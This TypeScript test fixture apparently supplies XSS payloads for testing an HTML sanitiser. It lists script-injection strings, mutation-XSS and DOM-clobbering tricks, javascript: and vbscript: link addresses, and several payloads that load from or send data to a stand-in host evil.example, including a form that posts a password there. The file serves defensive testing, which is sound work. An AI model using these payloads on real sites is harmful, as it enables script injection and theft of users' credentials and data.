import { readFileSync } from 'node:fs'
import path from 'node:path'
import { root } from './root'

/** Ends an attribute and would leave an element and a handler behind; fits into the shortest of names. */
export const SHORT = `"><b data-injected><img src=x onerror=alert(1)>`

/** Ends whatever a text may stand in, such as a title, a script, a comment or an attribute, and is a template, too. */
export const LONG = `'"></title></script></style></textarea></noscript>--><b data-injected><svg/onload=alert(1)>{{7*7}}`

/** Kinds that the collection lacks; the rest is DOMPurify's own. */
const more = [
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
  '<a href="java\nscript:alert(1)" data-click>a</a>',
  '<a href=" &#14; javascript:alert(1)" data-click>a</a>',
  '<a href="javascript&colon;alert(1)" data-click>a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p title="</noscript><img src=x onerror=alert(1)>">a</p>',
  '<img alt="</script><script>alert(1)</script>" src="x">',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>a</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<form id="config"><input name="attributes"><input name="nodeName"></form><img name="currentScript" src="x">',
  '<div style="background:url(https://evil.example/steal)">a</div>',
  '<style>@import "https://evil.example/x.css";</style><link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/"><a href="x">a</a>',
  '<form action="https://evil.example/"><input name="password"><button>a</button></form>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<input onfocus=alert(1) autofocus>',
  '<table background="https://evil.example/steal"><td background="https://evil.example/steal">a</td></table>',
]

const collection: { payloads: string[] } = JSON.parse(
  readFileSync(path.join(root, 'e2e', 'support', 'dompurify-payloads.json'), 'utf8'),
)

/** HTML that tries to run something, each by itself. */
export const hostileHtml: readonly string[] = [...collection.payloads, ...more]

/** Addresses that are none for a link. */
export const hostileAddresses = [
  'javascript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
]
